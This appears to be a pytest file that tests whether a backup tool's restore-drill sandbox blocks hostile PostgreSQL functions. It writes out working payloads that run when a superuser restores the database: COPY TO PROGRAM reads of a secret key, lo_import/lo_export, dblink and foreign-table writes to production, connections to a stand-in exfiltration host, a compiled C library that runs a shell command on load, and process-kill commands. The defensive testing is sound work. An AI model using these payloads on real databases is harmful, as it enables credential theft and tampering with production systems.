"""An application's database user cannot get at drd's keys through a drill.

He owns tables whose checks, generated columns and triggers run his functions. Restored in a sandbox
these run as its superuser: they read the repository's password, changed production through its own
socket, and the drill passed.
"""

from __future__ import annotations

import contextlib
import shutil
import socket
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.e2e.site import Site
from tests.fence_support import fences
from tests.servers import PostgresServer, postgres_server

pytestmark = fences

SUPERUSER = "(select rolsuper from pg_catalog.pg_roles where rolname = current_user)"

_ATTACKS = {
    "check_copy_program": "execute 'copy (select 1) to program ''cat {secret} > {loot}/check''';",
    "pg_read_file": "execute 'copy (select pg_catalog.pg_read_file(''{secret}'')) to "
    "''{loot}/read''';",
    "write_outside": "execute 'copy (select 1) to ''{loot}/copied''';",
    "lo_export": "perform pg_catalog.lo_export(pg_catalog.lo_from_bytea(0, 'x'), "
    "'{loot}/exported');",
    "lo_import": "perform pg_catalog.lo_export(pg_catalog.lo_import('{secret}'), "
    "'{loot}/imported');",
    "dblink": "perform public.dblink_exec('host={production} port={port} user=postgres "
    "dbname=shop', 'create table public.pwned_by_dblink ()');",
    "foreign_table": "execute 'create server f foreign data wrapper postgres_fdw options "
    "(host ''{production}'', port ''{port}'', dbname ''shop'')'; "
    "execute 'create user mapping for current_user server f options (user ''postgres'')'; "
    "execute 'import foreign schema public limit to (canary) from server f into public'; "
    "execute 'insert into public.canary values (2)';",
    "tcp": "perform public.dblink_connect('host=192.0.2.7 port=5432 connect_timeout=2');",
    "listener": "perform public.dblink_connect('host=127.0.0.1 port={listener} "
    "connect_timeout=2');",
    "name": "perform public.dblink_connect('host=exfil.example.org port=5432 connect_timeout=2');",
    "library": "perform pg_catalog.lo_export((select l.o from public.lib l), 'stolen.so'); "
    "execute 'load ''' || pg_catalog.current_setting('data_directory') || '/stolen.so''';",
    "signal": "execute 'copy (select 1) to program ''kill -9 {pid}''';",
}

_OWN = {
    "copy_program": "execute 'copy (select 1) to program ''cat > inside''';",
    "copy_file": "execute 'copy (select 1) to ''' || pg_catalog.current_setting('data_directory') "
    "|| '/copied''';",
    "load": "execute 'load ''$libdir/auto_explain''';",
    "dblink": "perform public.dblink_connect('host=' || "
    "pg_catalog.btrim(pg_catalog.current_setting('unix_socket_directories'), '\"') || ' "
    "dbname=template1 user=postgres'); perform public.dblink_disconnect();",
}

_LIBRARY = """
#include <stdlib.h>
static void __attribute__((constructor)) run(void) { system("cat %s > %s/library"); }
"""


@dataclass
class World:
    site: Site
    server: PostgresServer
    loot: Path
    listener: socket.socket

    def drill(self, code: int | None = 0) -> dict[str, object]:
        return self.site.drd("drill", "shop", "--json", code=code).json


@pytest.fixture
def world(short_tmp: Path) -> Iterator[World]:
    (short_tmp / "pg").mkdir()
    loot = short_tmp / "loot"
    loot.mkdir()
    loot.chmod(0o777)
    with (
        postgres_server(short_tmp / "pg") as server,
        socket.create_server(("127.0.0.1", 0)) as listener,
    ):
        server.execute("create role app login")
        server.execute("create database shop owner app")
        server.execute(
            "create extension dblink; create extension postgres_fdw; create table canary (n int);"
            "insert into canary values (1); grant usage, create on schema public to app", "shop",
        )  # fmt: skip
        site = Site(short_tmp / "site")
        (site.base / "key").write_text("the key")
        (site.base / "key").chmod(0o644)  # so that nothing but the fence keeps anybody from it
        site.plan(
            f"components:\n  db: {{kind: postgres, dsn: '{server.dsn('shop')}'}}\n"
            "checks:\n  - {name: rows, kind: rows, component: db}\n"
        )
        yield World(site, server, loot, listener)


def as_app(world: World, sql: str) -> None:
    import psycopg

    with psycopg.connect(world.server.dsn("shop", user="app"), autocommit=True) as connection:
        connection.execute(sql.encode())


def hostile(world: World, attacks: dict[str, str], nap: int) -> None:
    """A table whose check runs them all as soon as it is the superuser who does; none of them may
    hinder the restore."""
    known = {
        "secret": world.site.base / "key",
        "loot": world.loot,
        "production": world.server.socket_dir,
        "port": world.server.port,
        "listener": world.listener.getsockname()[1],
        "pid": nap,
    }
    body = "".join(
        f"begin {statement.format(**known)} exception when others then null; end; "
        for statement in attacks.values()
    )
    function = f"begin if {SUPERUSER} then {body} end if; return true; end"
    as_app(
        world,
        f"create function steal(v int) returns boolean language plpgsql as $f$ {function} $f$;"
        "create function peek(v int) returns text language plpgsql immutable as $f$ begin "
        f"if {SUPERUSER} then begin execute 'copy (select 1) to program ''cat {known['secret']} "
        f"> {world.loot}/generated'''; exception when others then null; end; end if; "
        "return ''; end $f$;"
        "create table lib (o oid);"
        "create table t (v int check (steal(v)));"
        "create table g (v int, w text generated always as (peek(v)) stored);"
        "insert into t values (1); insert into g values (1);",
    )
    world.server.execute(
        "create function told() returns event_trigger language plpgsql as 'begin end';"
        "alter function told() owner to app;"
        "create event trigger e on ddl_command_end execute function told()", "shop",
    )  # fmt: skip
    as_app(
        world,
        "create or replace function told() returns event_trigger language plpgsql as $f$ begin "
        f"if {SUPERUSER} then begin execute 'copy (select 1) to program ''cat {known['secret']} "
        f"> {world.loot}/event'''; exception when others then null; end; end if; end $f$",
    )


def add_library(world: World) -> None:
    source, built = world.loot.parent / "lib.c", world.loot.parent / "lib.so"
    source.write_text(_LIBRARY % (world.site.base / "key", world.loot))
    words = ["gcc", "-shared", "-fPIC", "-o", str(built), str(source)]
    subprocess.run(words, check=True, capture_output=True)
    data = built.read_bytes().hex()
    as_app(world, f"insert into lib values (lo_from_bytea(0, '\\x{data}'))")


def test_functions_of_a_database_have_no_access_in_a_drill(world: World) -> None:
    with contextlib.closing(world.listener):
        nap = subprocess.Popen(["sleep", "600"])
        try:
            hostile(world, _ATTACKS, nap.pid)
            if shutil.which("gcc"):
                add_library(world)
            world.site.drd("backup", "shop")
            drilled = world.drill()
            assert nap.poll() is None
        finally:
            nap.kill()
            nap.wait()
    assert drilled["result"] == "passed"
    assert list(world.loot.iterdir()) == []
    tables = world.server.execute(
        "select tablename from pg_tables where tablename ~ 'pwned'", "shop"
    )
    assert tables == []
    assert world.server.execute("select n from canary", "shop") == [(1,)]
    fence = drilled["fence"]
    assert isinstance(fence, dict)
    assert fence["held"] == ["files", "signals", "calls", "network"]
    tried = {f"{a['what']} {a['to']}" for a in fence["tried"]}
    production = f"socket {world.server.socket_dir.resolve()}/.s.PGSQL.{world.server.port}"
    assert {production, "tcp 192.0.2.7:5432", "dns exfil.example.org"} <= tried
    run = world.site.runs()[0]["run"]
    assert (
        "the fence refused an access by db.postgres: tcp 192.0.2.7:5432"
        in world.site.drd("run", "show", run).out
    )


def test_functions_that_stay_within_the_database_work_inside_the_fence(world: World) -> None:
    hostile(world, {}, 1)
    body = "".join(_OWN.values())
    as_app(
        world,
        "drop table t, g; drop function steal(int); drop function peek(int);"
        "create function fine(v int) returns boolean language plpgsql as $f$ begin "
        f"if {SUPERUSER} then {body} end if; return true; end $f$;"
        "create table t (v int check (fine(v))); insert into t select generate_series(1, 3);"
        "create index on t (v); create materialized view m as select count(*) from t",
    )
    world.site.drd("backup", "shop")
    drilled = world.drill()
    assert drilled["result"] == "passed"
    fence = drilled["fence"]
    assert isinstance(fence, dict)
    assert fence["tried"] == []
    assert world.site.drd("run", "show", world.site.runs()[0]["run"]).out.count("fence") == 1


def test_server_cannot_keep_a_drill_by_what_it_puts_in_the_place_of_its_log(world: World) -> None:
    """Its directory is the server's own: a pipe there kept the drill for ever, a link to a device
    filled the memory."""
    as_app(
        world,
        "create function lead(v int) returns boolean language plpgsql as $f$ begin "
        f"if {SUPERUSER} then execute 'copy (select 1) to program ''rm ../log && mkfifo ../log && "
        "kill -9 $PPID'''; end if; return true; end $f$;"
        "create table t (v int check (lead(v))); insert into t values (1)",
    )
    world.site.drd("backup", "shop")
    assert world.drill(code=None)["result"] != "passed"
